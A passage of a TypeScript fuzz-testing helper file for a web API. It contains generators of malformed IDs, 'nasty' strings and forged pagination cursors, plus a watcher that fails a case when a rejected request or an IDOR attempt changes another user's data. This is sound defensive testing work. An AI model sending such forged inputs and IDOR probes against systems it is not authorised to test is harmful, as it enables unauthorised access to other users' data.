      "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
      "01936f00-0000-7000-8000-00000000000",
      "01936f00-0000-7000-8000-0000000000011",
      "{id}",
      ":id",
      "*",
      "a".repeat(101),
      "a".repeat(5000),
    ),
    nastyString({ maxLength: 40 }).map((text) => encodeURIComponent(wellFormed(text))),
    fc.uuid().map((id) => id.toUpperCase()),
    fc.uuid(),
  );

// ---- running fuzz cases -------------------------------------------------------------------------

/**
 * Watches one user's data: after each request, a fingerprint that changed without a successful
 * write (a non-GET answered 2xx) is a write by a rejected request, and fails the case. `readOnly`
 * watches a bystander (a victim of IDOR attempts) whose data must never change.
 */
export class Watch {
  private last = "";
  constructor(
    readonly userId: string,
    private readonly tally: Tally,
    private readonly readOnly = false,
  ) {}

  async start() {
    this.last = await fingerprint(this.userId);
    return this;
  }

  async after(req: Req, res: Res) {
    const now = await fingerprint(this.userId);
    const method = (req.method ?? "GET").toUpperCase();
    const mayWrite = !this.readOnly && method !== "GET" && method !== "HEAD" && res.status < 300;
    if (!mayWrite && now !== this.last) {
      this.tally.writesByRejected += 1;
      const before = this.last;
      this.last = now;
      throw new Error(
        `${method} ${req.path.slice(0, 200)} → ${res.status} changed the data of ${this.userId}` +
          `${this.readOnly ? " (a bystander)" : ""}:\n  before ${before}\n  after  ${now}`,
      );
    }
    this.last = now;
  }
}

/** Sends a fuzz case, records it, and throws on any universal violation. */
export async function fuzzCase(tally: Tally, req: Req, options?: { allowStatuses?: number[] }): Promise<Res> {
  let res: Res;
  try {
    res = await send(req);
  } catch (err) {
    throw new Error(`${req.method ?? "GET"} ${req.path.slice(0, 200)} threw: ${(err as Error).message}`);
  }
  const found = tally.record(req, res, violations(req, res, options));
  if (found.length > 0) {
    throw new Error(
      `${req.method ?? "GET"} ${req.path.slice(0, 200)} → ${res.status}: ${found.join("; ")}\n${res.text.slice(0, 400)}`,
    );
  }
  return res;
}

/** fc.assert with the suite's seed (derived per property), `numRuns`, and no shrinking in CI time. */
export function check<T>(
  name: string,
  arbitrary: fc.Arbitrary<T>,
  numRuns: number,
  predicate: (value: T) => Promise<void>,
) {
  return fc.assert(
    fc.asyncProperty(arbitrary, async (value) => {
      await predicate(value);
    }),
    { seed: seedFor(name), numRuns, endOnFailure: true },
  );
}

/** The one summary line a fuzz file prints. */
export const fuzzSummary = (tally: Tally) =>
  `fuzz[${tally.name}]: ${tally.cases} cases, ${tally.total5xx} 5xx, ${tally.violations.length} contract violations, ` +
  `${tally.writesByRejected} writes by rejected requests, ${tally.rowsLost} rows lost ` +
  `(seed ${SEED}; statuses ${tally.statusSummary()})`;

/** Appends a query string built from entries (values encoded, or raw when wrapped in Raw). */
export function withQuery(path: string, entries: [string, string | Raw][]) {
  if (entries.length === 0) return path;
  const parts = entries.map(([key, value]) =>
    value instanceof Raw ? `${key}=${value.text}` : `${encodeURIComponent(key)}=${encodeURIComponent(value)}`,
  );
  return `${path}?${parts.join("&")}`;
}

/** Lone surrogates cannot be percent-encoded; a client sends U+FFFD instead. */
export const wellFormed = (text: string) =>
  text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\ufffd");

/**
 * A list cursor built by hand (forged): base64url JSON of the real shape `{ at, id }` or of older
 * ones (`{ <legacyKey>, id }`), with right and hostile values (src/lib/cursor.ts must answer 400).
 */
export function forgedCursor(legacyKey: string) {
  return fc
    .record({
      at: fc.oneof(
        fc
          .date({ noInvalidDate: true, min: new Date("1970-01-01"), max: new Date("2200-01-01") })
          .map((d) => d.toISOString()),
        instantString(),
        nastyString({ maxLength: 30 }),
        fc.constantFrom(1, null, "1", "2026-02-30T00:00:00Z"),
      ),
      id: fc.oneof(fc.uuid(), hostileSegment(), fc.constantFrom(1, null)),
      key: fc.constantFrom("at", "at", legacyKey),
    })
    .map(({ at, id, key }) =>
      base64url(JSON.stringify({ [key]: typeof at === "string" ? wellFormed(at) : at, id })),
    );
}
